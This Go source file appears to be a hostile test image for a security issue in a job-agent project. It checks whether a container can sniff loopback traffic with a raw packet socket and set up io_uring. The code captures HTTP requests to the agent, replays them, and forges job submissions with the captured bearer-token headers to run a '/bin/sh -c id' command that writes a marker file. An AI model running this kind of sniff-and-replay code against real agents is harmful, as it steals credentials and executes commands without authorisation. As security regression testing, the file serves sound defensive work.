// Command sniffer is the hostile job image of issue 41's HIGH 1, built static for a container FROM
// scratch on the host's network. It opens an AF_PACKET socket on lo and sets up an io_uring
// instance, and prints what the kernel said to each; when it may, it reads the requests sent to
// the agent's port for a few seconds and replays them: each captured request as it was sent, and
// a job of its own (POST /jobs, then its start) carrying the captured requests' headers, a job
// that would write a marker file on the agent's machine. It prints each answer's status, then
// waits for its stop.
//
//	sniffer AGENT_HOST:PORT MARKER SECONDS
package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/crankshaft/crankshaft/internal/uring"
)

func main() {
	if len(os.Args) != 4 {
		fail("usage: sniffer AGENT_HOST:PORT MARKER SECONDS")
	}
	agent, marker := os.Args[1], os.Args[2]
	secs, err := strconv.Atoi(os.Args[3])
	if err != nil {
		fail("SECONDS: %v", err)
	}
	_, portText, err := net.SplitHostPort(agent)
	if err != nil {
		fail("agent: %v", err)
	}
	port, err := strconv.Atoi(portText)
	if err != nil {
		fail("agent port: %v", err)
	}
	fd, err := packetSocket()
	if err != nil {
		fmt.Printf("packet socket: %v (%s)\n", err, errnoName(err))
	} else {
		fmt.Println("packet socket: opened")
	}
	if r, err := uring.New(1, 0, 0); err != nil {
		fmt.Printf("io_uring: %v (%s)\n", err, errnoName(err))
	} else {
		r.Close()
		fmt.Println("io_uring: set up")
	}
	fmt.Println("sniffer ready")
	if err == nil {
		reqs := capture(fd, port, time.Duration(secs)*time.Second)
		fmt.Printf("captured %d requests to port %d\n", len(reqs), port)
		replay(agent, marker, reqs)
	}
	signals := make(chan os.Signal, 1)
	signal.Notify(signals, syscall.SIGTERM, syscall.SIGINT)
	<-signals
}

func fail(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "sniffer: "+format+"\n", args...)
	os.Exit(2)
}

func errnoName(err error) string {
	var errno syscall.Errno
	if errors.As(err, &errno) {
		switch errno {
		case syscall.EPERM:
			return "EPERM"
		case syscall.EACCES:
			return "EACCES"
		}
		return "errno " + strconv.Itoa(int(errno))
	}
	return "not an errno"
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// packetSocket opens a raw AF_PACKET socket bound to lo (it needs CAP_NET_RAW), reads bounded by
// a receive timeout.
func packetSocket() (int, error) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return -1, err
	}
	lo, err := net.InterfaceByName("lo")
	if err != nil {
		return -1, err
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: lo.Index}); err != nil {
		return -1, err
	}
	tv := unix.Timeval{Usec: 200000}
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		return -1, err
	}
	return fd, nil
}

// capture reads lo's frames for d and keeps the heads of the HTTP requests sent to port (each
// once: lo shows a frame twice), at most 64.
func capture(fd, port int, d time.Duration) [][]byte {
	var reqs [][]byte
	seen := map[string]bool{}
	buf := make([]byte, 1<<16)
	for end := time.Now().Add(d); time.Now().Before(end) && len(reqs) < 64; {
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			continue // the receive timeout: look at the clock again
		}
		payload, ok := tcpPayload(buf[:n], port)
		if !ok || !bytes.Contains(payload, []byte(" HTTP/1.1\r\n")) {
			continue
		}
		if !seen[string(payload)] {
			seen[string(payload)] = true
			reqs = append(reqs, bytes.Clone(payload))
		}
	}
	return reqs
}

// tcpPayload is the TCP payload of an Ethernet frame (lo's header is 14 bytes too) of IPv4 or
// IPv6 sent to port.
func tcpPayload(f []byte, port int) ([]byte, bool) {
	if len(f) < 14 {
		return nil, false
	}
	ip := f[14:]
	var tcp []byte
	switch binary.BigEndian.Uint16(f[12:14]) {
	case 0x0800:
		if len(ip) < 20 || ip[9] != 6 {
			return nil, false
		}
		total, hl := int(binary.BigEndian.Uint16(ip[2:4])), int(ip[0]&0x0f)*4
		if total > len(ip) || hl > total {
			return nil, false
		}
		tcp = ip[hl:total]
	case 0x86dd:
		if len(ip) < 40 || ip[6] != 6 {
			return nil, false
		}
		tcp = ip[40:min(len(ip), 40+int(binary.BigEndian.Uint16(ip[4:6])))]
	default:
		return nil, false
	}
	if len(tcp) < 20 || int(binary.BigEndian.Uint16(tcp[2:4])) != port {
		return nil, false
	}
	off := int(tcp[12]>>4) * 4
	if off > len(tcp) {
		return nil, false
	}
	return tcp[off:], true
}

// replay sends the first three captured requests again as they were, then a job of its own with
// the headers of a captured request (one with an Authorization header first), and prints the
// answers.
func replay(agent, marker string, reqs [][]byte) {
	client := &http.Client{Timeout: 5 * time.Second}
	for _, raw := range reqs[:min(len(reqs), 3)] {
		line, _, _ := bytes.Cut(raw, []byte("\r\n"))
		fmt.Printf("replayed %s: %s\n", line, sendRaw(agent, raw))
	}
	job := fmt.Sprintf(`{"job":"sniffed","executable":"/bin/sh","arguments":"-c \"id > %s\""}`, marker)
	var authorized, others []*http.Request
	for _, raw := range reqs {
		req, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(raw)))
		switch {
		case err != nil:
		case req.Header.Get("Authorization") != "":
			authorized = append(authorized, req)
		default:
			others = append(others, req)
		}
	}
	if len(authorized) > 0 && strings.HasPrefix(authorized[0].Header.Get("Authorization"), "Bearer ") {
		fmt.Println("saw a bearer token")
	}
	candidates := append(authorized, others...)
	for _, req := range candidates[:min(len(candidates), 3)] {
		post, _ := http.NewRequest(http.MethodPost, "http://"+agent+"/jobs", strings.NewReader(job))
		for k, v := range req.Header {
			if k != "Content-Length" {
				post.Header[k] = v
			}
		}
		post.Header.Set("Content-Type", "application/json")
		status, body := do(client, post)
		fmt.Printf("forged POST /jobs with %s's headers: %s\n", req.URL.Path, status)
		var created struct{ ID string }
		if json.Unmarshal(body, &created) != nil || created.ID == "" {
			continue
		}
		start, _ := http.NewRequest(http.MethodPost, "http://"+agent+"/jobs/"+created.ID+"/start", nil)
		start.Header = post.Header.Clone()
		status, _ = do(client, start)
		fmt.Printf("forged start of job %s: %s\n", created.ID, status)
		return
	}
}

func do(client *http.Client, req *http.Request) (string, []byte) {
	resp, err := client.Do(req)
	if err != nil {
		return err.Error(), nil
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	return resp.Status, body
}

// sendRaw writes raw on a new connection to agent and returns the answer's status line.
func sendRaw(agent string, raw []byte) string {
	c, err := net.DialTimeout("tcp", agent, 2*time.Second)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(2 * time.Second)) // a head whose body was not captured waits
	if _, err := c.Write(raw); err != nil {
		return err.Error()
	}
	status, err := bufio.NewReader(c).ReadString('\n')
	if err != nil {
		return err.Error()
	}
	return strings.TrimSpace(status)
}
